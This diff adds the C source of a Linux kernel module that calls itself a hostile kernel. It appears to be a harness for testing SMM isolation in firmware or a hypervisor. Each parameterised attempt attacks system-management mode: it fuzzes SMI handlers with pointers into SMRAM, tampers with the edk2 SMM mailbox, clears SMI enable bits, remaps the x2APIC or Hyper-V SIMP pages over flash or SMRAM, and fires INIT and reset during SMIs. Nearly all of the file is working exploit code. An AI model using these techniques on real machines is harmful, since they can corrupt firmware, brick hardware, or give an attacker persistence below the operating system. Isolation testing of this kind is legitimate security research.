@@ -1,0 +1,249 @@
+/*
+ * A hostile kernel: a Linux module that tries to reach the memory of system-management mode (SMM)
+ * or to keep the firmware from its flash. Each loading is one attempt, whose name is the parameter
+ * `attempt`. Its result is a line in the kernel's log.
+ */
+#include <linux/efi.h>
+#include <linux/io.h>
+#include <linux/mm.h>
+#include <linux/module.h>
+#include <linux/random.h>
+#include <linux/slab.h>
+#include <asm/apic.h>
+#include <asm/msr.h>
+
+static char *attempt = "";
+module_param(attempt, charp, 0);
+/* TSEG, the SMRAM of this machine. */
+static ulong tseg;
+module_param(tseg, ulong, 0);
+
+/* The part of the flash that has the variables. */
+#define FLASH 0xffc00000
+#define STORE 0x40000
+/* Ports of the chip set: an SMI, and a reset. */
+#define APM_CNT 0xb2
+#define RESET 0xcf9
+#define SMI_EN 0x630
+
+#define X2APIC_ICR 0x830
+#define INIT 0x4500
+#define SIMP 0x40000083
+
+/* An SMI with a command in AL, and these values in the other registers. */
+static void smi(u8 command, const u64 words[14])
+{
+	u64 rax = words[0] << 8 | command;
+	const u64 *rsi = words;
+
+	asm volatile("push %%rbp\n\t"
+		     "mov 8(%%rsi), %%rbx\n\tmov 16(%%rsi), %%rcx\n\t"
+		     "mov 24(%%rsi), %%rdx\n\tmov 32(%%rsi), %%rdi\n\t"
+		     "mov 40(%%rsi), %%r8\n\tmov 48(%%rsi), %%r9\n\t"
+		     "mov 56(%%rsi), %%r10\n\tmov 64(%%rsi), %%r11\n\t"
+		     "mov 72(%%rsi), %%r12\n\tmov 80(%%rsi), %%r13\n\t"
+		     "mov 88(%%rsi), %%r14\n\tmov 96(%%rsi), %%r15\n\t"
+		     "mov 104(%%rsi), %%rbp\n\tmov (%%rsi), %%rsi\n\t"
+		     "out %%al, $0xb2\n\t"
+		     "pop %%rbp"
+		     : "+a"(rax), "+S"(rsi)
+		     :
+		     : "rbx", "rcx", "rdx", "rdi", "r8", "r9", "r10", "r11", "r12", "r13", "r14", "r15",
+		       "memory", "cc");
+}
+
+static const char *once(void)
+{
+	outb(0, APM_CNT);
+	return "done";
+}
+
+/* Clears GBL_SMI_EN. */
+static const char *enable(void)
+{
+	static char value[8];
+
+	outl(0x20, SMI_EN);
+	outb(0x20, SMI_EN);
+	snprintf(value, sizeof(value), "%x", inl(SMI_EN));
+	return value;
+}
+
+/* All commands, with random registers, or with addresses of SMRAM in all of them. */
+static const char *commands(void)
+{
+	u64 words[14];
+	int command, word;
+
+	for (command = 0; command < 256; command++) {
+		get_random_bytes(words, sizeof(words));
+		for (word = 0; command % 3 == 2 && word < 14; word++)
+			words[word] = tseg + (words[word] & 0xfffff8);
+		smi(command, words);
+		cond_resched();
+	}
+	return "done";
+}
+
+/*
+ * The start of edk2's SMM_CORE_PRIVATE_DATA, in which drivers outside of SMM leave a message for a
+ * handler inside.
+ */
+struct mailbox {
+	u64 signature;
+	u64 handle;
+	u64 ranges[2];
+	u64 entry;
+	u64 flags;
+	u64 smst;
+	u64 buffer;
+	u64 size;
+	u64 status;
+};
+
+#define SMMC 0x636d6d73
+
+static struct mailbox *find_mailbox(void)
+{
+	efi_memory_desc_t *md;
+
+	for_each_efi_memory_desc(md) {
+		u64 size = md->num_pages << EFI_PAGE_SHIFT, at;
+		u8 *memory;
+
+		if (md->type != EFI_RUNTIME_SERVICES_DATA && md->type != EFI_RUNTIME_SERVICES_CODE)
+			continue;
+		memory = memremap(md->phys_addr, size, MEMREMAP_WB);
+		for (at = 0; memory && at + sizeof(struct mailbox) <= size; at += 8) {
+			struct mailbox *it = (struct mailbox *)(memory + at);
+
+			if (it->signature == SMMC && it->ranges[0] < 16)
+				return it;
+		}
+		if (memory)
+			memunmap(memory);
+	}
+	return NULL;
+}
+
+/* The handler of the variables (gEfiSmmVariableProtocolGuid). */
+static const u64 VARIABLES[2] = { 0x420999e6ed32d533, 0xa798d9cd722dc09c };
+
+/* Messages of random bytes to handlers, and messages in SMRAM itself. */
+static const char *messages(void)
+{
+	struct mailbox *mailbox = find_mailbox();
+	u64 *message = (u64 *)get_zeroed_page(GFP_KERNEL), words[14] = {};
+	struct mailbox old;
+	int round;
+
+	if (!mailbox || !message)
+		return "no mailbox";
+	old = *mailbox;
+	for (round = 0; round < 120; round++) {
+		get_random_bytes(message, PAGE_SIZE);
+		if (round % 3 != 0)
+			memcpy(message, VARIABLES, sizeof(VARIABLES));
+		/* A length that fits, and a function that reads or writes variables. */
+		if (round % 3 == 1) {
+			message[2] &= 0x7ff;
+			message[3] = 1 + message[3] % 4;
+		}
+		mailbox->buffer = virt_to_phys(message);
+		if (round % 5 == 4)
+			mailbox->buffer = tseg + (message[9] & 0xfff000);
+		mailbox->size = round % 2 ? PAGE_SIZE : message[8];
+		smi(0, words);
+		cond_resched();
+	}
+	mailbox->buffer = old.buffer;
+	mailbox->size = old.size;
+	return "done";
+}
+
+/* The page of the flash to which firmware adds the next variable. */
+static u64 next_page(void)
+{
+	u8 __iomem *flash = ioremap(FLASH, STORE);
+	u64 at = STORE;
+
+	while (flash && at > 0 && readb(flash + at - 1) == 0xff)
+		at--;
+	return (FLASH + at) & PAGE_MASK;
+}
+
+/* Puts the registers of the interrupt controller over the flash, where they take its writes. */
+static const char *controller(void)
+{
+	u64 old;
+
+	rdmsrl(MSR_IA32_APICBASE, old);
+	if (!(old & X2APIC_ENABLE))
+		return "no x2APIC";
+	return wrmsrl_safe(MSR_IA32_APICBASE, next_page() | (old & 0xfff)) ? "refused" : "moved";
+}
+
+/* Lets KVM write the messages of Hyper-V's timers to SMRAM, while the processor is in SMM. */
+static const char *timers(void)
+{
+	u64 page = __get_free_page(GFP_KERNEL);
+
+	if (wrmsrl_safe(SIMP, virt_to_phys((void *)page) | 1))
+		return "no synthetic interrupt controller";
+	return wrmsrl_safe(SIMP, tseg | 1) ? "refused" : "accepted";
+}
+
+/* INIT for the second processor, which the kernel does not use now, amid SMIs. */
+static const char *inits(void)
+{
+	u64 words[14] = {};
+	int round;
+
+	for (round = 0; round < 30; round++) {
+		wrmsrl(X2APIC_ICR, 1ULL << 32 | INIT);
+		smi(0, words);
+		cond_resched();
+	}
+	return "done";
+}
+
+static const char *reset(void)
+{
+	outb(0, APM_CNT);
+	outb(6, RESET);
+	outb(0, APM_CNT);
+	return "still here";
+}
+
+static int __init begin(void)
+{
+	static const struct {
+		const char *name;
+		const char *(*make)(void);
+	} ATTEMPTS[] = {
+		{ "once", once },
+		{ "enable", enable },
+		{ "commands", commands },
+		{ "messages", messages },
+		{ "timers", timers },
+		{ "controller", controller },
+		{ "inits", inits },
+		{ "reset", reset },
+	};
+	int index;
+
+	for (index = 0; index < ARRAY_SIZE(ATTEMPTS); index++) {
+		if (!strcmp(attempt, ATTEMPTS[index].name))
+			pr_info("attack: result %s\n", ATTEMPTS[index].make());
+	}
+	return 0;
+}
+
+static void __exit end(void)
+{
+}
+
+module_init(begin);
+module_exit(end);
+MODULE_DESCRIPTION("attempts to reach system-management mode");
+MODULE_LICENSE("Proprietary");
